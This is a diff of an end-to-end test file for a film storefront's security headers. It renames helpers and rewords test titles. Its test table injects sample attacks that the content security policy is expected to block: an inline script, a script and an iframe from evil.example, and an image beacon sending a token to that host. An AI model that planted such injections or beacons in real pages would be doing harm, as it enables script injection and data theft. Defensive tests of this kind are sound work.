@@ -1,20 +1,19 @@
 import { readFileSync } from 'node:fs'
 import { expect, test } from 'vitest'
-import { seeded, useStack } from '../../../packages/devstack/test/harness.ts'
+import { seeded } from '../../../packages/devstack/test/harness.ts'
 import { securityHeaders } from '../security-headers.ts'
-import { fillCard, signIn, useBrowser, whenPlayable } from './page.ts'
+import { fillCard, waitUntilPlayable } from './browser.ts'
+import { buyButton, useStorefront } from './storefront.ts'
 
-const stack = useStack({ web: true })
-const open = useBrowser(stack)
+const { stack, open, openAs } = useStorefront()
 
-test('a film is bought and played under the policy of the pages, and nothing is refused by it', async () => {
-  const { page, errors } = await open(`/sign-in?next=/e/${seeded.film}`)
-  await signIn(page, 'policy')
-  await page.getByRole('button', { name: 'Buy Film, 30 days' }).click()
+test('the policy allows everything that buying and playing a film needs', async () => {
+  const { page, errors } = await openAs('policy', `/e/${seeded.film}`)
+  await page.getByRole('button', buyButton).click()
   await fillCard(page, '4000002760003184')
   await page.frameLocator('iframe').getByRole('button', { name: 'Complete authentication' }).click()
   await page.waitForURL(`**/watch/${seeded.film}`)
-  await whenPlayable(page)
+  await waitUntilPlayable(page)
   await page.goto(`${stack().stack.web}/admin`)
   await page.getByRole('heading').first().waitFor()
   expect(errors).toEqual([])
@@ -22,10 +21,13 @@ test('a film is bought and played under the policy of the pages, and nothing is 
 
 test.each([
   ['an inline script', 'Object.assign(document.createElement("script"), { textContent: "window.injected = true" })'],
-  ['a script of another site', 'Object.assign(document.createElement("script"), { src: "https://evil.example/a.js" })'],
-  ['a frame of another site', 'Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })'],
-  ['a picture that tells another site', 'Object.assign(document.createElement("img"), { src: "https://evil.example/?token" })'],
-])('%s is refused', async (_what, element) => {
+  ['a script from another site', 'Object.assign(document.createElement("script"), { src: "https://evil.example/a.js" })'],
+  ['a frame from another site', 'Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })'],
+  [
+    'an image that sends data to another site',
+    'Object.assign(document.createElement("img"), { src: "https://evil.example/?token" })',
+  ],
+])('%s is refused', async (_name, element) => {
   const { page, errors } = await open()
   await page.getByRole('heading', { name: 'Films' }).waitFor()
   expect(errors).toEqual([])
@@ -37,7 +39,7 @@ test.each([
   expect(await page.evaluate('window.injected')).toBeUndefined()
 })
 
-test('every answer of the pages carries the headers, and nothing more may be reached than is needed', async () => {
+test('every response has the security headers, which allow only the needed origins', async () => {
   const { web, api, issuer, stripeApi } = stack().stack
   const expected = securityHeaders({ api: [api, issuer], stripe: [stripeApi] })
   for (const path of ['/', '/config.json', `/watch/${seeded.film}`]) {
@@ -46,8 +48,8 @@ test('every answer of the pages carries the headers, and nothing more may be rea
   }
 })
 
-test('nginx says the same in production', () => {
+test('deploy/security-headers.conf has the same headers', () => {
   const text = readFileSync('deploy/security-headers.conf', 'utf8')
-  const said = [...text.matchAll(/^add_header ([\w-]+) "(.*)" always;$/gm)].map(([, name, value]) => [name, value])
-  expect(Object.fromEntries(said)).toEqual(securityHeaders({ api: [], stripe: [] }))
+  const headers = [...text.matchAll(/^add_header ([\w-]+) "(.*)" always;$/gm)].map(([, name, value]) => [name, value])
+  expect(Object.fromEntries(headers)).toEqual(securityHeaders({ api: [], stripe: [] }))
 })
